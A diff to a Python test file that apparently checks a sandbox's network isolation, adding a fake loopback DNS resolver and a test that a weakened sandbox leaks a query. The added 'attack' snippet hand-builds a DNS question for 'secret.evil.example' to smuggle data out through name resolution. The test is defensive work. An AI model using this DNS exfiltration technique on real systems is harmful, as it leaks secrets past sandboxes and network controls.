@@ -58,6 +58,16 @@ def attack(name):
         link.connect(chr(0) + name)
         return link.recv(16) == b"the host's own"
 """
+# The question is where the data goes: what is asked for leaves, whether or not there is such a name.
+ASK_A_RESOLVER = """
+import socket
+QUESTION = bytes.fromhex("1234 0100 0001 0000 0000 0000") + b"\\6secret\\4evil\\7example\\0" + bytes.fromhex("0001 0001")
+def attack(port):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
+        link.settimeout(2)
+        link.sendto(QUESTION, ("127.0.0.1", int(port)))
+        return link.recv(64) == b"the host's own"
+"""
 SEE_THE_NETWORK = """
 import os, socket
 def attack(namespace):
@@ -135,6 +145,35 @@ def test_a_port_of_the_hosts_loopback_cannot_be_reached(proven, hole, answering)
     port = answering.getsockname()[1]
     no_net = hole(drop=(("--unshare-net",),), check="own namespaces")
     greeted(answering, lambda: proven(CONNECT, port, hole=no_net))
+
+
+@pytest.fixture
+def resolver():
+    """Who answers names on this machine's loopback, and which questions came."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
+        server.bind(("127.0.0.1", 0))
+        asked = []
+
+        def answer():
+            while not asked or asked[-1] != b"end":
+                question, whose = server.recvfrom(512)
+                asked.append(question)
+                server.sendto(b"the host's own", whose)
+
+        thread = threading.Thread(target=answer)
+        thread.start()
+        yield server.getsockname()[1], asked
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
+            last.sendto(b"end", server.getsockname())
+        thread.join()
+
+
+def test_no_question_for_a_name_reaches_a_resolver_of_the_host(proven, hole, resolver):
+    port, asked = resolver
+    assert asked == []
+    proven(ASK_A_RESOLVER, port, hole=hole(drop=(("--unshare-net",),), check="own namespaces"))
+    assert len(asked) == 1  # of the planted failure alone
+    assert b"secret" in asked[0]
 
 
 @pytest.mark.parametrize("answering", ["abstract"], indirect=True)
